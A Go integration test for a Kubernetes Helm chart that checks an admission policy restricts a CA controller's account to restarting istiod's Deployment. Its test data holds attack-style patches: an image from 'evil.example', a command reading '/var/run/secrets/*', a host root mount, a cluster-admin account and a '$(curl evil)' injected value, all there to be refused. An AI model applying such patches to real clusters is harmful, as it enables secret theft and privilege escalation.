package chart

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/meshca/meshca/ca/istiodcert"
	"github.com/meshca/meshca/integration/harness"
	"github.com/meshca/meshca/internal/testca"
	"github.com/meshca/meshca/keymgr"
	apiequality "k8s.io/apimachinery/pkg/api/equality"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
)

// restartOnly is what the chart's admission policy answers every change
// but the restart's.
const restartOnly = "meshca's account may change istiod's Deployment only to restart it: the pod template annotation meshca.io/trusted-roots"

// istiodPatches are changes of istiod's Deployment a compromised meshca
// would make to run code as istiod's service account, or to take istiod
// down, each with what the policy's refusal says.
var istiodPatches = []struct {
	name, patch, msg string
}{
	{"image", `{"spec":{"template":{"spec":{"containers":[{"name":"discovery","image":"evil.example/pilot:latest"}]}}}}`, "not istiod's Pod spec"},
	{"service account", `{"spec":{"template":{"spec":{"serviceAccountName":"cluster-admin"}}}}`, "not istiod's Pod spec"},
	{"command", `{"spec":{"template":{"spec":{"containers":[{"name":"discovery","command":["/bin/sh","-c","cat /var/run/secrets/*"]}]}}}}`, "not istiod's Pod spec"},
	{"env", `{"spec":{"template":{"spec":{"containers":[{"name":"discovery","env":[{"name":"PILOT_DEBUG","value":"1"}]}]}}}}`, "not istiod's Pod spec"},
	{"volumes", `{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`, "not istiod's Pod spec"},
	{"an init container beside the restart", `{"spec":{"template":{"metadata":{"annotations":{"meshca.io/trusted-roots":"` + strings.Repeat("a", 64) +
		`"}},"spec":{"initContainers":[{"name":"x","image":"evil.example/x"}]}}}}`, "not istiod's Pod spec"},
	{"another pod template annotation", `{"spec":{"template":{"metadata":{"annotations":{"sidecar.istio.io/inject":"true"}}}}}`, "not another pod template annotation"},
	{"the restart annotation holding something else", `{"spec":{"template":{"metadata":{"annotations":{"meshca.io/trusted-roots":"$(curl evil)"}}}}}`,
		"which lists SHA-256 fingerprints"},
	{"a pod template label", `{"spec":{"template":{"metadata":{"labels":{"sidecar.istio.io/inject":"true"}}}}}`, "not the pod template's labels"},
	{"replicas", `{"spec":{"replicas":0}}`, "not the Deployment's replicas, selector or rollout"},
	{"paused", `{"spec":{"paused":true}}`, "not the Deployment's replicas, selector or rollout"},
	{"an owner reference (garbage collection)", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"00000000-0000-0000-0000-000000000000"}]}}`,
		"not the Deployment's labels, annotations, owners or finalizers"},
	{"a finalizer", `{"metadata":{"finalizers":["example.com/never"]}}`, "not the Deployment's labels, annotations, owners or finalizers"},
}

// TestChartIstiodRestartPolicy applies the Istio mode's rendering for
// real: its Role lets meshca's account patch istiod's Deployment, and the
// ValidatingAdmissionPolicy it ships lets that patch change the restart
// annotation alone. Under meshca's ServiceAccount the real apiserver
// refuses every other change (image, service account, command, env,
// volumes, other annotations, labels, replicas, owners), the Deployment
// stays as it was, and the restart patch as the keeper sends it passes;
// another account (istio's installer) is not bound by it.
func TestChartIstiodRestartPolicy(t *testing.T) {
	ctx := context.Background()
	ns := cluster.Namespace(t, "meshca-istiod-policy")
	objs := render(t, ns, "--values", harness.ChartDir()+"/ci/istio-values.yaml")
	policy := find(t, objs, "ValidatingAdmissionPolicy", "meshca."+ns+".istiod-restart.meshca.io")
	if got, _, _ := unstructured.NestedString(policy.Object, "spec", "failurePolicy"); got != "Fail" {
		t.Errorf("failurePolicy %q, want Fail", got)
	}
	find(t, objs, "ValidatingAdmissionPolicyBinding", "meshca."+ns+".istiod-restart.meshca.io")
	apply(t, objs, false)
	name := istiodDeployment(t, ns, "istiod-canary")
	sa := harness.ClientOf(t, cluster.ServiceAccountKubeconfig(t, ns, "meshca"))
	waitForPolicy(t, sa, ns, name)
	before, err := cluster.Client.AppsV1().Deployments(ns).Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range istiodPatches {
		t.Run(p.name, func(t *testing.T) {
			_, err := sa.AppsV1().Deployments(ns).Patch(ctx, name, types.StrategicMergePatchType, []byte(p.patch), metav1.PatchOptions{})
			if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), restartOnly) || !strings.Contains(err.Error(), p.msg) {
				t.Fatalf("meshca's account changed istiod's %s: %v; want Forbidden saying %q", p.name, err, p.msg)
			}
		})
	}
	after, _ := cluster.Client.AppsV1().Deployments(ns).Get(ctx, name, metav1.GetOptions{})
	if after.ResourceVersion != before.ResourceVersion {
		t.Fatalf("istiod's Deployment changed under the refused patches:\n%+v\n%+v", before.Spec, after.Spec)
	}

	// The restart, exactly as the keeper sends it.
	roots := []string{keymgr.Fingerprint(testca.NewRoot(t, "root A", testca.Options{}).Cert), keymgr.Fingerprint(testca.NewRoot(t, "root B", testca.Options{}).Cert)}
	restarted, err := sa.AppsV1().Deployments(ns).Patch(ctx, name, types.StrategicMergePatchType, istiodcert.RestartPatch(roots), metav1.PatchOptions{})
	if err != nil {
		t.Fatalf("the keeper's restart was refused: %v", err)
	}
	want := before.Spec.DeepCopy()
	want.Template.Annotations = map[string]string{istiodcert.AnnotationTrustedRoots: strings.Join(roots, ",")}
	if !apiequality.Semantic.DeepEqual(restarted.Spec, *want) {
		t.Errorf("the restart changed more than its annotation:\n%+v\nwant %+v", restarted.Spec, *want)
	}

	// istiod's installer, another account, upgrades istiod's image.
	if _, err := cluster.Client.AppsV1().Deployments(ns).Patch(ctx, name, types.StrategicMergePatchType, []byte(istiodPatches[0].patch), metav1.PatchOptions{}); err != nil {
		t.Errorf("the policy binds another account than meshca's: %v", err)
	}
}

// waitForPolicy waits until the apiserver enforces the policy just
// applied (its admission plugin learns of policies and bindings by
// watching them): a dry run of a refused change is refused.
func waitForPolicy(t *testing.T, sa kubernetes.Interface, ns, name string) {
	t.Helper()
	var err error
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
		_, err = sa.AppsV1().Deployments(ns).Patch(context.Background(), name, types.StrategicMergePatchType, []byte(istiodPatches[0].patch),
			metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		if err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			return
		}
	}
	t.Fatalf("the admission policy is not enforced within 30s: the last dry run of an image change answered %v", err)
}

// TestChartIstiodRestartNeedsAdmissionPolicies: the restart needs the
// policy's API (admissionregistration.k8s.io/v1, Kubernetes 1.30): on an
// older cluster the chart refuses istio.istiodDeployment.restart and says
// how to do without it; without the restart there is no patch, and no
// policy. The CA state's Secret name is istiod's certificate's only in the
// same namespace.
func TestChartIstiodRestartNeedsAdmissionPolicies(t *testing.T) {
	istio := "--values=" + harness.ChartDir() + "/ci/istio-values.yaml"
	if _, err := harness.HelmTemplate(helm, "meshca", "istio-system", istio, "--kube-version", "v1.29.9"); err == nil ||
		!strings.Contains(err.Error(), "istio.istiodDeployment.restart needs Kubernetes 1.30 or later (this is v1.29.9)") {
		t.Errorf("rendered for Kubernetes 1.29: %v", err)
	}
	objs := render(t, "istio-system", istio, "--kube-version", "v1.29.9", "--set", "istio.istiodDeployment.restart=false")
	for _, o := range objs {
		if strings.HasPrefix(o.GetKind(), "ValidatingAdmissionPolicy") {
			t.Errorf("%s %s rendered without the restart", o.GetKind(), o.GetName())
		}
	}
	render(t, "istio-system", istio, "--set", "istio.namespace=mesh", "--set", "istio.istiodCertificate.secretName=meshca-ca-state")
}
